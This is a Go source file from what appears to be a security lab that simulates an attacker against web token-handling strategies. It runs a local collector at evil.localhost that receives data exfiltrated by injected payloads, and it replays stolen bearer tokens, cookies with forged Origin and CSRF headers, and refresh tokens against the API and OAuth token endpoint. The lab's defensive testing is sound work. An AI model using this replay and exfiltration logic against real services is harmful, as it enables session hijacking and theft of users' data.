package attack

import (
	"cmp"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"

	"cloakroom/bff/lab/strategy"
	"cloakroom/shared"
	"cloakroom/shared/lab"
)

// attacker has an origin of another site, where loot arrives and from where
// forged requests leave, and a client that has nothing of the browser's.
type attacker struct {
	world  *strategy.World
	origin string
	server *http.Server
	client *http.Client

	mu      sync.Mutex
	reports map[string]chan message // by nonce
	pages   map[string]string       // by path
}

// message is what a payload sends home.
type message struct {
	// Places are texts by the place they were read in.
	Places map[string]string `json:"places"`
	// Error is what the payload could not do; it ran to its end all the same.
	Error string `json:"error"`
	// By is how it came: "fetch", or "navigation" where the page's policy lets
	// nothing else out.
	By string `json:"by"`
}

func newAttacker(w *strategy.World) (*attacker, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("attack: %w", err)
	}
	a := &attacker{
		world: w, origin: fmt.Sprintf("http://evil.localhost:%d", listener.Addr().(*net.TCPAddr).Port),
		client: &http.Client{Transport: w.Transport(), Timeout: patience, CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		}},
		reports: map[string]chan message{}, pages: map[string]string{},
	}
	a.server = &http.Server{Handler: http.HandlerFunc(a.serve), ReadHeaderTimeout: patience, ErrorLog: log.New(io.Discard, "", 0)}
	go func() { _ = a.server.Serve(listener) }() // ends with close
	return a, nil
}

func (a *attacker) close() {
	a.client.CloseIdleConnections()
	_ = a.server.Close()
}

// maxReport bounds a report, in bytes.
const maxReport = 1 << 20

func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Cache-Control", "no-store")
	if r.URL.Path != "/collect" {
		a.mu.Lock()
		page, ok := a.pages[r.URL.Path]
		a.mu.Unlock()
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, page)
		return
	}
	text := r.URL.Query().Get("report") // by a navigation
	if r.Method == http.MethodPost {
		body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, maxReport))
		if err != nil {
			return
		}
		text = string(body)
	}
	var got message
	if json.Unmarshal([]byte(text), &got) != nil {
		return
	}
	a.mu.Lock()
	arrived := a.reports[r.URL.Query().Get("nonce")]
	a.mu.Unlock()
	select {
	case arrived <- got: // a nil channel takes nothing: nobody waits for that nonce
	default:
	}
}

// expect makes a collector's address for one payload.
func (a *attacker) expect() (address string, arrived <-chan message) {
	nonce, reports := rand.Text(), make(chan message, 1)
	a.mu.Lock()
	defer a.mu.Unlock()
	a.reports[nonce] = reports
	return a.origin + "/collect?nonce=" + nonce, reports
}

// publish serves a page at the attacker's origin and returns its address.
func (a *attacker) publish(page string) string {
	path := "/" + rand.Text()
	a.mu.Lock()
	defer a.mu.Unlock()
	a.pages[path] = page
	return a.origin + path
}

func await(ctx context.Context, arrived <-chan message) (message, error) {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	select {
	case got := <-arrived:
		return got, nil
	case <-ctx.Done():
		return message{}, fmt.Errorf("attack: no report of the payload arrived: %w", ctx.Err())
	}
}

// ask sends a request as the attacker's own and reports whether the answer has
// orders of the victim in it.
func (a *attacker) ask(ctx context.Context, r *http.Request, with string) (lab.Answer, []byte, error) {
	answer := lab.Answer{By: lab.Attacker, Request: r.Method + " " + r.URL.Scheme + "://" + r.URL.Host + r.URL.Path, With: with}
	resp, err := a.client.Do(r.WithContext(ctx))
	if err != nil {
		return answer, nil, fmt.Errorf("attack: %w", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxReport))
	if err != nil {
		return answer, nil, fmt.Errorf("attack: %w", err)
	}
	answer.Status = resp.StatusCode
	var page shared.OrderPage
	answer.Gave = resp.StatusCode == http.StatusOK && json.Unmarshal(body, &page) == nil && page.Total > 0 && len(page.Orders) > 0
	return answer, body, nil
}

// use tries a piece of loot for all it is good for, and returns what it led to.
func (a *attacker) use(ctx context.Context, s lab.Strategy, p piece, e *lab.Evidence) error {
	switch p.kind {
	case lab.KindAccess, lab.KindID:
		r, err := http.NewRequest(http.MethodGet, a.world.API()+"/orders", nil)
		if err != nil {
			return err
		}
		r.Header.Set("Authorization", "Bearer "+p.value)
		answer, _, err := a.ask(ctx, r, p.fingerprint())
		e.Answers = append(e.Answers, answer)
		return err
	case lab.KindRefresh:
		return a.redeem(ctx, s, p, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {p.value}}, e)
	case lab.KindCookie:
		return a.replay(ctx, s, p, e)
	}
	return fmt.Errorf("attack: nobody knows a use for a %s", p.kind)
}

// replay sends a cookie as the application's own page would, header and all.
func (a *attacker) replay(ctx context.Context, s lab.Strategy, p piece, e *lab.Evidence) error {
	origin := a.world.Origin(s.ID)
	r, err := http.NewRequest(http.MethodGet, origin+"/api/orders", nil)
	if err != nil {
		return err
	}
	r.Header.Set("Cookie", p.value)
	r.Header.Set("Origin", origin)
	r.Header.Set("Sec-Fetch-Site", "same-origin")
	r.Header.Set(shared.HeaderCSRF, shared.ValueCSRF)
	answer, _, err := a.ask(ctx, r, p.fingerprint())
	e.Answers = append(e.Answers, answer)
	return err
}

// redeem sends a grant to the token endpoint, without a secret since the
// attacker has none, and uses the access token that comes back.
func (a *attacker) redeem(ctx context.Context, s lab.Strategy, p piece, form url.Values, e *lab.Evidence) error {
	form.Set("client_id", a.world.ClientID(s.ID))
	r, err := http.NewRequest(http.MethodPost, a.world.Issuer()+"/oauth/token", strings.NewReader(form.Encode()))
	if err != nil {
		return err
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	answer, body, err := a.ask(ctx, r, p.fingerprint())
	if err != nil {
		return err
	}
	e.Answers = append(e.Answers, answer)
	var tokens struct {
		Access  string `json:"access_token"`
		Refresh string `json:"refresh_token"`
	}
	if json.Unmarshal(body, &tokens) != nil || tokens.Access == "" {
		return nil // refused: that is an outcome
	}
	e.Steps = append(e.Steps, fmt.Sprintf("the attacker's client was issued tokens of its own for the %s, a refresh token among them: %t", cmp.Or(p.kind, "grant"), tokens.Refresh != ""))
	return a.use(ctx, s, piece{lab.KindAccess, "token endpoint", tokens.Access}, e)
}
